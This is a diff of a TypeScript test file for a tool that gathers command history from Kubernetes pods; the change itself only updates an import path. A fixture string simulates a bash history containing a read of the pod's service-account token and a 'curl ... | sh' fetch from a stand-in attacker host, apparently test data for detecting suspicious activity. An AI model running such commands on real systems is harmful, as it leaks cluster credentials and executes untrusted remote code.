@@ -2,7 +2,7 @@ import { commandHistorySource, createCommandHistorySource, historyExecOutcome } 
 import { HISTORY_SHELLS, historyCommand } from '../../shared/sources/historyScript.js';
 import { execInPod } from '../../shared/sources/podExec.js';
 import type { PodExecResult } from '../../shared/sources/podExec.js';
-import type { KubeObject, Scenario } from '../fixtures/k8s/scenario.js';
+import type { KubeObject, Scenario } from '../../shared/simulator/kube/scenario.js';
 import { collect, context, FIXED_NOW, namespace, pod, startCluster } from './helpers.js';
 
 const BASH_HISTORY = '#1772358000\nls -la /root\n#1772358060\ncat /var/run/secrets/kubernetes.io/serviceaccount/token\ncurl -s http://evil.example/x.sh | sh\n';
